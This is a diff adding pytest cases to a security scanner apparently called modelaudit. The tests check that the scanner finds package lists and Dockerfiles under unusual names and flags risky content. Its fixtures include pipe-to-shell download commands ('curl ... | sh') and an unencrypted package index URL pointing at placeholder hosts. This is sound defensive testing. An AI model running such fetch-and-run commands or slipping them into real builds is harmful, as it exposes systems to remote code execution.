@@ -269,6 +269,74 @@ def test_dangerous_file_that_a_document_tells_users_to_run_fails_the_scan(
     assert modelaudit.scan(tmp_path, second_opinion=False, checks=("security",)).exit_code == exit_code
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("run.sh", "pip install -r deps.list\n"),
+        ("run.sh", "uv pip install --requirement=deps.list\n"),
+        ("run.sh", "python3 -m pip download -qrdeps.list -c deps.list x\n"),
+        ("run.sh", "conda create -n x --file deps.list\n"),
+        ("README.md", "# x\n\n```bash\npip install \\\n  -r deps.list\n```\n"),
+        ("run.py", 'import subprocess\nsubprocess.run(["pip", "install", "-r", "deps.list"])\n'),
+        ("requirements.txt", "numpy\n-r further.list\n"),
+        ("pyproject.toml", '[project]\nname = "x"\n[tool.setuptools.dynamic]\ndependencies = {file = ["deps.list"]}\n'),
+        ("pyproject.toml", '[tool.setuptools.dynamic.dependencies]\nfile = "deps.list"\n'),
+        ("setup.cfg", "[options]\ninstall_requires = file: deps.list\n"),
+        ("tox.ini", "[testenv]\ndeps =\n  -r deps.list\n"),
+        ("bentofile.yaml", "python:\n  requirements_txt: deps.list\n"),
+    ],
+)
+def test_list_of_packages_under_any_name_is_read_if_a_command_or_a_setting_names_it(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    (tmp_path / name).write_text(text)
+    (tmp_path / "further.list").write_text("-c deps.list\n")
+    (tmp_path / "deps.list").write_text("--index-url http://e.invalid/simple\n")
+    (finding,) = (each for each in modelaudit.scan(tmp_path, second_opinion=False).findings if each.severity == "high")
+    assert (finding.rule, finding.artifact) == ("requirements/unprotected-source", "deps.list")
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("run.sh", "docker build -t x -f notes/image.txt .\n"),
+        ("run.sh", "docker buildx build --file=notes/image.txt .\n"),
+        ("Makefile", "all:\n\tpodman build -fnotes/image.txt .\n"),
+        ("compose.yaml", "services:\n  a:\n    build:\n      context: .\n      dockerfile: notes/image.txt\n"),
+        ("devcontainer.json", '{"build": {"dockerfile": "notes/image.txt"}}'),
+        ("build.py", 'client.images.build(path=".", dockerfile="notes/image.txt")\n'),
+    ],
+)
+def test_dockerfile_under_any_name_is_read_if_a_command_or_a_setting_names_it(
+    tmp_path: Path, name: str, text: str
+) -> None:
+    (tmp_path / name).write_text(text)
+    (tmp_path / "notes").mkdir()
+    (tmp_path / "notes/image.txt").write_text("FROM x\nRUN curl -s https://e.invalid/x.sh | sh\n")
+    report = modelaudit.scan(tmp_path, second_opinion=False)
+    assert ("shell/download-and-run", "notes/image.txt") in {(each.rule, each.artifact) for each in report.findings}
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "code"),
+    [
+        ("run.sh", "pip install -r data.txt\ndocker build -f data.txt .\n", 0),
+        ("setup.cfg", "[metadata]\nlong_description = file: data.txt\n", 0),
+        ("README.md", "---\nsdk: gradio\napp_file: data.txt\n---\n", 3),
+        ("Cargo.toml", '[package]\nname = "x"\nbuild = "data.txt"\n', 3),
+        (".yarnrc.yml", "yarnPath: data.txt\n", 3),
+        (".vscode/settings.json", '{"ruff.path": ["${workspaceFolder}/data.txt"]}', 3),
+    ],
+)
+def test_file_that_a_setting_names_is_an_unread_program_unless_its_language_is_settled(
+    tmp_path: Path, name: str, text: str, code: int
+) -> None:
+    (tmp_path / name).parent.mkdir(exist_ok=True)
+    (tmp_path / name).write_text(text)
+    (tmp_path / "data.txt").write_text("numpy\n")
+    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == code
+
+
 def test_documentation_that_a_script_names_is_not_read_as_commands(tmp_path: Path) -> None:
     (tmp_path / "run.sh").write_text('eval "$REPLY"\nopen_it README.md\n')
     (tmp_path / "README.md").write_text("    curl https://a.example/x | sh\n")
